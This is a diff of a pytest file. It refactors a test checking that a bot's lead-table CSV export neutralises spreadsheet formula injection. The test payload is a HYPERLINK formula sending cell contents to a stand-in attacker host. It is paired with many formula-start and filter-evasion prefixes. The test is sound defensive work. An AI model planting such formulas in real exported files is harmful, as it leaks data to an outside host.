@@ -2,6 +2,7 @@
 
 import csv
 import io
+import itertools
 import json
 import logging
 import sys
@@ -18,7 +19,7 @@ from tram_bot.core.content import Content
 from tram_bot.core.file_kinds import suspicious
 from tram_bot.core.file_names import clean_file_name
 from tram_bot.core.hygiene import clean
-from tram_bot.core.identifiers import CentreId, ConversationId, LeadId
+from tram_bot.core.identifiers import ConversationId, LeadId
 from tram_bot.core.lead import Happening, Lead
 from tram_bot.core.lead_card import lead_card
 from tram_bot.core.lead_export import table, whole_lead
@@ -31,7 +32,7 @@ from tram_bot.text_layout import Paper
 COMMAND = 'HYPERLINK("https://evil.example/?"&A1,"open")'
 STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"]
 BEFORE = ["", " ", "\t", "\r", "\n", "\u00a0", "'", '"', ' "', "“"]
-PL = CentreId("pl")
+BEHIND = ["", "steel;", "steel; ", "one\n", "one\t", "one\r\n"]
 
 
 def cells(text: str, separator: str) -> Iterator[str]:
@@ -43,18 +44,15 @@ def cells(text: str, separator: str) -> Iterator[str]:
 
 
 @pytest.mark.parametrize("start", STARTS)
-@pytest.mark.parametrize("before", BEFORE)
-@pytest.mark.parametrize("behind", ["", "steel;", "steel; ", "one\n", "one\t", "one\r\n"])
-def test_no_cell_computes_whatever_parts_the_cells(
-    content: Content, start: str, before: str, behind: str
-) -> None:
-    words = f"{behind}{before}{start}{COMMAND}"
-    answers = {"problem": example.answer(Wrote(text=words), words)}
-    exported = table(content, [replace(example.lead(), answers=answers)], confidential=True)
-    assert "HYPERLINK" in exported
-    for separator in (",", ";", "\t"):
-        for cell in cells(exported, separator):
-            assert not computes(cell), (separator, cell)
+def test_no_cell_computes_whatever_parts_the_cells(content: Content, start: str) -> None:
+    for before, behind in itertools.product(BEFORE, BEHIND):
+        words = f"{behind}{before}{start}{COMMAND}"
+        answers = {"problem": example.answer(Wrote(text=words), words)}
+        exported = table(content, [replace(example.lead(), answers=answers)], confidential=True)
+        assert "HYPERLINK" in exported
+        for separator in (",", ";", "\t"):
+            for cell in cells(exported, separator):
+                assert not computes(cell), (separator, cell)
 
 
 def computes(cell: str) -> bool:
